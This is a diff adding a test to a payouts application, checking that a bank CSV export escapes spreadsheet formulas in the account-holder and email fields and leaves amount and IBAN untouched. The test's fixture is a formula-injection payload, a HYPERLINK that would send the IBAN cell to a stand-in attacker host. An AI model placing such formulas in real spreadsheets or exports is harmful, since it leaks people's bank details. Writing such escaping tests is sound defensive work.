@@ -294,6 +294,32 @@ def test_csv_neutralises_spreadsheet_formulas(client, manager, programme, approv
     assert rows[1][5:7] == ["paypal", "anna@example.com"]
 
 
+def test_bank_csv_writes_an_account_holders_formula_as_text_and_bank_fields_as_they_are(
+    client, manager, programme, approved_sale
+):
+    holder = '=HYPERLINK("https://evil.example/?iban="&G2,"Confirm your payout")'
+    advocate = AdvocateFactory(
+        programme=programme,
+        user__email="-2+3@example.com",
+        payout_method=Advocate.PayoutMethod.BANK,
+        payout_details={"account_holder": holder, "iban": "DE89370400440532013000"},
+    )
+    approved_sale(advocate=advocate, gross=30000)
+    batch = build(client, programme)
+    approve(client, batch)
+    client.post(reverse("payouts:execute", args=[batch.pk]))
+
+    body = client.get(reverse("payouts:csv", args=[batch.pk])).content.decode()
+    row = dict(zip(*list(csv.reader(io.StringIO(body))), strict=True))
+
+    assert row["advocate_name"] == "'" + holder
+    assert row["email"] == "'-2+3@example.com"
+    # What a bank import reads stays exactly as it is: the amount a number, the IBAN its digits.
+    assert row["amount"] == "30.00"
+    assert row["account"] == "DE89370400440532013000"
+    assert row["reference"] == f"Streetteam payout {batch.payouts.get().pk}"
+
+
 def test_staff_without_the_payout_permission_cannot_build_or_pay(
     client, support_user, programme, approved_sale
 ):
